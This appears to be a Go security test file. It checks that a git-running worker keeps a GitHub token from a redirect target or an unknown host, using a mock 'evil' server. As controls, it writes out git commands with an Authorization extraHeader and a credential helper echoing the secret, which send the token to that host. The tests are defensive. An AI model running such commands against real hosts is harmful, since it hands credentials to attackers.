package attack

import (
	"encoding/base64"
	"net/http"
	"strings"
	"testing"
)

// TestRedirects has the remote send the worker to another host, which would serve
// it. The worker asks nothing there; plain git brings it the token.
func TestRedirects(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.git.Create(t, "moved.git", map[string]string{"README": "hello\n"})
	evil := w.startEvil(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		r.SetBasicAuth("x-access-token", w.secrets["github"]) // it serves everybody
		w.git.ServeHTTP(rw, r)
	}))
	p := w.shell()
	if out := p.do(command{w.project("amelia"), "scott", w.front.url("moved.git"), "t", "c-1", "echo 1 > change.txt"}); out.CommitID == "" {
		t.Fatalf("before it moved: %+v", out)
	}
	w.front.elsewhere.Store(&evil.url)
	out := p.do(command{w.project("amelia"), "scott", w.front.url("moved.git"), "t", "c-2", "echo 2 > change.txt"})
	if out.Success || len(evil.asked()) > 0 {
		t.Errorf("the other host was asked; answer %+v", out)
	}
	out = p.do(command{w.project("new"), "scott", w.front.url("moved.git"), "t", "c-3", "echo 3 > change.txt"})
	if out.Success || len(evil.asked()) > 0 {
		t.Errorf("the other host was asked for a clone; answer %+v", out)
	}
	token := base64.StdEncoding.EncodeToString([]byte("x-access-token:" + w.secrets["github"]))
	said := w.plainly(w.tmp(), "git -c http.followRedirects=true -c http.extraHeader='Authorization: Basic "+token+"' clone "+w.front.url("moved.git")+" moved")
	leaked := false
	for _, r := range evil.asked() {
		leaked = leaked || strings.Contains(r.Header.Get("Authorization"), token)
	}
	if !leaked {
		t.Errorf("plain git does not bring the token elsewhere, so nothing is shown: %s", said)
	}
}

// TestTokenGoesNowhereElse looks at who got the token: the allowed host alone.
func TestTokenGoesNowhereElse(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	evil := w.startEvil(http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set("WWW-Authenticate", `Basic realm="give it to me"`)
		rw.WriteHeader(http.StatusUnauthorized)
	}))
	p := w.shell()
	out := p.do(command{w.project("amelia"), "scott", evil.url + "/x.git", "t", "c-1", "true"})
	if out.Success {
		t.Errorf("answer %+v", out)
	}
	for _, r := range evil.asked() {
		t.Errorf("a host that is not allowed was asked: %s, %q", r.URL, r.Header.Get("Authorization"))
	}
	w.plainly(w.tmp(), "git -c credential.helper='!echo username=x; echo password="+w.secrets["github"]+"; :' ls-remote "+evil.url+"/x.git")
	leaked := false
	for _, r := range evil.asked() {
		leaked = leaked || r.Header.Get("Authorization") != ""
	}
	if !leaked {
		t.Error("a credential helper does not answer who asks, so nothing is shown")
	}
}
